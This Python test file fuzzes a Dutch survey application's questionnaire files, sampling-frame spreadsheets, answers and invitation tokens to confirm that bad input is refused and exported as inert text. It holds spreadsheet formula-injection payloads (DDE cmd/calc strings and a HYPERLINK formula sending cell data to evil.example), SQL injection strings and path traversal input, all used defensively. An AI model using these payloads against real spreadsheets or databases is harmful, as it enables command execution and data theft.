"""Bad input, fuzzed with hypothesis (issue 11 item 3): questionnaire files, frame files, answers
and tokens. Each gets a clear error (the module's own error type, with a message) and leaves the
store unchanged; spreadsheet formulas are never executed nor written back as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sampling.frame import FrameError, read_frame
from store import responses as R
from store import schema
from store.db import create, transaction, upgrade_schema
from survey import QuestionnaireError, load_questionnaire
from tests.survey_form.world import ELOKET, PAGES_INVITED, make_world

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# --- questionnaire files ----------------------------------------------------------------------

ELOKET_LINES = ELOKET.read_text(encoding="utf-8").splitlines()
nasty_text = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(max_size=200),
    st.text(alphabet="{}[]:&*!|>'\"%@`#-?,\t\n\x00\x1b", max_size=50),
    st.integers(1_000, 200_000).map(lambda n: "x" * n),
)


@FUZZ
@given(
    edits=st.lists(
        st.tuples(st.integers(0, len(ELOKET_LINES) - 1), st.sampled_from("dri"), nasty_text),
        min_size=1,
        max_size=4,
    )
)
def test_a_damaged_questionnaire_file_gives_a_located_error(tmp_path_factory, edits):
    lines = list(ELOKET_LINES)
    for index, op, text in edits:
        index %= len(lines)
        if op == "d":
            del lines[index]
        elif op == "r":  # replace the value after the key, keep the indentation
            head, sep, _ = lines[index].partition(":")
            lines[index] = f"{head}{sep} {text}" if sep else text
        else:
            lines.insert(index, text)
        if not lines:
            lines = [""]
    path = tmp_path_factory.mktemp("q") / "vragenlijst.yaml"
    path.write_text("\n".join(lines), encoding="utf-8", errors="surrogatepass")
    try:
        q = load_questionnaire(path)
    except QuestionnaireError as exc:
        assert "vragenlijst.yaml" in str(exc)
    else:
        assert q.sections  # what loads is a valid questionnaire


@FUZZ
@given(data=st.binary(max_size=4000), suffix=st.sampled_from([".yaml", ".yml", ".xlsx"]))
def test_random_bytes_are_not_a_questionnaire(tmp_path_factory, data, suffix):
    path = tmp_path_factory.mktemp("q") / f"bestand{suffix}"
    path.write_bytes(data)
    with pytest.raises(QuestionnaireError) as caught:
        load_questionnaire(path)
    assert f"bestand{suffix}" in str(caught.value)


# --- frame files --------------------------------------------------------------------------------

FRAME_HEADER = [
    "unit_id",
    "email",
    "profession",
    "training_year",
    "university",
    "language",
    "first_name",
    "last_name",
    "eloket_use_12m",
]


def _frame_rows(n: int = 6) -> list[list[str]]:
    professions = ["huisarts", "arts_specialist", "tandarts_specialist"]
    return [
        [
            f"U{i:04d}",
            f"persoon.{i}@example.org",
            professions[i % 3],
            str(1 + i % 4),
            "KU Leuven",
            "nl",
            "An",
            "Peeters",
            str(i % 2),
        ]
        for i in range(n)
    ]


def _csv_bytes(rows: list[list[str]], header=FRAME_HEADER) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode("utf-8")


cell_values = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(max_size=60),
    st.sampled_from(["", "   ", "NaN", "None", "-1", "1e309", "3.5", "99999999999999999999"]),
    st.integers(1_000, 100_000).map(lambda n: "é" * n),
    st.integers(-(10**12), 10**12).map(str),
)


@FUZZ
@given(
    edits=st.lists(
        st.tuples(st.integers(0, 5), st.integers(0, len(FRAME_HEADER) - 1), cell_values),
        min_size=1,
        max_size=6,
    )
)
def test_fuzzed_frame_files_give_a_frame_error_or_a_valid_frame(edits):
    rows = _frame_rows()
    for r, c, value in edits:
        rows[r][c] = value
    try:
        frame = read_frame(_csv_bytes(rows), filename="kader.csv")
    except FrameError as exc:
        message = str(exc)
        assert "kader.csv" in message and len(message) > 20
    else:
        data = frame.data
        assert len(data) == 6 and data["unit_id"].is_unique
        assert data["training_year"].map(lambda v: isinstance(v, int) or v == int(v)).all()


def test_formula_cells_in_an_xlsx_frame_are_never_evaluated_nor_kept_as_formulas(tmp_path):
    """A formula in the team's spreadsheet is read as its cached value (none here): it is not
    run, and what remains of it can only be text."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(FRAME_HEADER)
    for row in _frame_rows():
        ws.append(row)
    ws["G2"] = "=cmd|' /C calc'!A0"  # first_name of row 2: a real formula cell
    ws["I3"] = "=1+1"  # an auxiliary number as a formula
    path = tmp_path / "kader.xlsx"
    wb.save(path)
    try:
        frame = read_frame(path)
    except FrameError as exc:
        assert "kader.xlsx" in str(exc)
        return
    values = [str(v) for v in frame.data.to_numpy().ravel()]
    assert not any("cmd" in v or v.startswith("=") for v in values)


def test_a_cell_larger_than_the_csv_field_limit_gives_a_frame_error():
    rows = _frame_rows()
    rows[2][7] = "x" * 200_000
    with pytest.raises(FrameError, match="kader.csv"):
        read_frame(_csv_bytes(rows), filename="kader.csv")


@pytest.mark.parametrize("column", ["unit_id", "university"])
def test_over_long_frame_cells_get_a_frame_error_before_the_store(postgres_url, column):
    from ktm.services.sampling import import_frame
    from store.db import get_engine
    from store.waves import create_wave

    engine = get_engine(postgres_url)
    with transaction(engine) as conn:
        wave_id = create_wave(conn, "Meting lang")
    snapshot = _snapshot(engine)
    rows = _frame_rows()
    index = FRAME_HEADER.index(column)
    rows[1][index] = "U" * 150
    with pytest.raises(FrameError, match=column):
        import_frame(engine, wave_id, _csv_bytes(rows), filename="kader.csv")
    assert _snapshot(engine) == snapshot


def _xlsx_has_no_formula(data: bytes) -> list[str]:
    """Every cell's text of an .xlsx file, after checking that no cell is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_the_mail_merge_export_writes_formula_text_as_inert_text(tmp_path):
    """Names, unit ids and e-mail addresses that look like formulas come out of the frame into
    the mail merge (.xlsx and .csv) prefixed with a quote, never as formulas."""
    from report import format as fmt
    from sampling.invitations import mail_merge_rows, new_token, write_csv, write_xlsx

    rows = _frame_rows(len(FORMULAS))
    for i, formula in enumerate(FORMULAS):
        rows[i][6] = formula  # first name
        rows[i][0] = formula.strip() + f"#{i}"  # unit id
    frame = read_frame(_csv_bytes(rows), filename="kader.csv")
    invites = frame.data.assign(token=[new_token() for _ in range(len(frame.data))])
    merge = mail_merge_rows(invites, "https://enquete.example", "2026-12-31", dates=fmt.date)
    out = io.BytesIO()
    write_xlsx(merge, out)
    texts = _xlsx_has_no_formula(out.getvalue())
    for formula in FORMULAS:
        stripped = formula.strip()
        assert any(t.startswith("'") and stripped in t for t in texts), formula
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    text = io.StringIO()
    write_csv(merge, text)
    cells = [c for row in csv.reader(io.StringIO(text.getvalue()), delimiter=";") for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert sum(c.startswith("'") for c in cells) >= len(FORMULAS)


def test_the_excel_export_writes_formula_answers_as_inert_text(demo_url):
    """Open answers are exported (where disclosure control allows): one that is a formula comes
    out of the workbook and the CSV files as text, never as a formula."""
    from ktm.services.export import export_bytes

    engine = create(demo_url)
    with transaction(engine) as conn:
        wave_id = conn.execute(
            sa.select(schema.waves.c.id).where(schema.waves.c.status == "closed").limit(1)
        ).scalar_one()
        ids = (
            conn.execute(
                sa.select(schema.responses.c.id)
                .where(
                    schema.responses.c.wave_id == wave_id,
                    schema.responses.c.status == "complete",
                    schema.responses.c.mode == "invited",
                )
                .order_by(schema.responses.c.id)
            )
            .scalars()
            .all()
        )
        for n, rid in enumerate(ids):
            answers = dict(
                conn.execute(
                    sa.select(schema.responses.c.answers).where(schema.responses.c.id == rid)
                ).scalar_one()
            )
            answers["verbetering"] = FORMULAS[n % len(FORMULAS)]
            conn.execute(
                sa.update(schema.responses)
                .where(schema.responses.c.id == rid)
                .values(answers=answers)
            )
    xlsx, csv_zip = export_bytes(engine, wave_id)
    engine.dispose()
    texts = _xlsx_has_no_formula(xlsx)
    assert any(t.startswith("'=cmd|") for t in texts)  # the answer is there, as text
    with zipfile.ZipFile(io.BytesIO(csv_zip)) as z:
        for name in z.namelist():
            content = z.read(name).decode("utf-8-sig")
            dialect = ";" if content.count(";") >= content.count(",") else ","
            for row in csv.reader(io.StringIO(content), delimiter=dialect):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                    assert not (cell.startswith("-") and "cmd" in cell), (name, cell)


# --- answers and tokens through the response store ---------------------------------------------


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    """A wave with one respondent who has opened the survey (SQLite file)."""
    path = tmp_path_factory.mktemp("fuzz") / "fuzz.sqlite3"
    engine = create(f"sqlite:///{path}")
    upgrade_schema(engine)
    world = make_world(engine, invitations=("a", "b"))
    opened = R.open_invitation(engine, world.tokens["a"], "setup")
    resp = R.start_or_resume(engine, invitation=opened)
    yield engine, world, resp["id"]
    engine.dispose()


def _snapshot(engine, skip=("token_attempts",)) -> dict:
    with engine.connect() as conn:
        return {
            t.name: sorted(repr(tuple(r)) for r in conn.execute(sa.select(t)))
            for t in schema.metadata.sorted_tables
            if t.name not in skip
        }


SECTIONS = list(PAGES_INVITED)
KEYS = sorted({k for page in PAGES_INVITED.values() for k in page} | {"beroep", "onbekend"})
answer_values = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=50),
    st.integers(1001, 50_000).map(lambda n: "a" * n),
    st.sampled_from(FORMULAS + ["ja", "nee", "beter", "stageplan", "1", "10", "n.v.t."]),
    st.lists(st.one_of(st.text(max_size=10), st.integers()), max_size=4),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)


@FUZZ
@given(
    section=st.sampled_from(SECTIONS),
    page=st.dictionaries(st.sampled_from(KEYS), answer_values, max_size=6),
)
def test_fuzzed_pages_are_refused_whole_or_stored_valid(store, section, page):
    engine, _world, rid = store
    before = R.load_response(engine, rid)
    snapshot = _snapshot(engine)
    try:
        after = R.save_page(engine, rid, before["revision"], page, {"page": 1}, section_id=section)
    except R.InvalidAnswers as exc:
        assert exc.errors and all(nl and en for nl, en in exc.errors.values())
        assert _snapshot(engine) == snapshot  # nothing stored
        return
    # Accepted: what is stored passes the questionnaire's own validation.
    with engine.connect() as conn:
        q = R.questionnaire_for(conn, after["questionnaire_hash"])
    assert R.check_page(q, section, after["answers"], {}, "invited").answers == after["answers"]
    assert after["revision"] == before["revision"] + 1


@pytest.mark.parametrize(
    ("section", "page"),
    [
        ("algemeen", {"tevredenheid": 11}),
        ("algemeen", {"tevredenheid": -1}),
        ("algemeen", {"tevredenheid": 10**9}),
        ("algemeen", {"tevredenheid": 7.5}),
        ("algemeen", {"tevredenheid": "7; DROP TABLE responses"}),
        ("algemeen", {"verbetering": "a" * 1001}),
        ("algemeen", {"verbetering": "x" * 10**6}),
        ("ervaring", {"aanmelden": 6}),
        ("ervaring", {"aanmelden": 0}),
        ("gebruik", {"procedures": ["stageplan", "bestaat_niet"]}),
        ("papier", {"kende_papier": "misschien"}),
        ("gebruiksgemak", {"umux_1": 8}),
        ("algemeen", {"onbekende_vraag": 1}),
        ("profiel", {"beroep": "huisarts"}),  # not asked of invited respondents
    ],
)
def test_answers_out_of_range_or_over_long_are_refused_and_change_nothing(store, section, page):
    engine, _world, rid = store
    before = R.load_response(engine, rid)
    snapshot = _snapshot(engine)
    with pytest.raises(R.InvalidAnswers):
        R.save_page(engine, rid, before["revision"], page, {"page": 1}, section_id=section)
    assert _snapshot(engine) == snapshot


token_shapes = st.one_of(
    st.none(),
    st.integers(),
    st.floats(),
    st.binary(max_size=80),
    st.text(max_size=200),
    st.text(
        alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
        min_size=32,
        max_size=128,
    ),
    st.integers(10**4, 10**6).map(lambda n: "A" * n),
    st.lists(st.text(max_size=5), max_size=3),
    st.sampled_from(["' OR '1'='1", "%00", "../" * 20, "\x00" * 43, "é" * 43, *FORMULAS]),
)


@FUZZ
@given(token=token_shapes, client=st.text(max_size=80))
def test_tokens_of_every_shape_are_refused_and_change_only_the_throttle(store, token, client):
    engine, world, _rid = store
    snapshot = _snapshot(engine)
    opened = R.open_invitation(engine, token, client)
    assert isinstance(opened, R.Refused)
    assert opened.reason in (R.Refusal.UNKNOWN, R.Refusal.THROTTLED)
    opted = R.record_opt_out(engine, token, client)
    assert isinstance(opted, R.Refused)
    assert _snapshot(engine) == snapshot
    with engine.connect() as conn:
        keys = conn.execute(sa.select(schema.token_attempts.c.client_key)).scalars().all()
    assert all(len(k) == 64 for k in keys)  # client keys are stored hashed, bounded in size
    # The real link still opens: guessing by others does not lock a respondent out.
    assert isinstance(
        R.open_invitation(engine, world.tokens["b"], "respondent-b"), R.OpenedInvitation
    )


def test_a_questionnaire_path_that_does_not_exist_is_a_clear_error(tmp_path):
    with pytest.raises(QuestionnaireError, match="bestaat_niet.yaml"):
        load_questionnaire(Path(tmp_path / "bestaat_niet.yaml"))
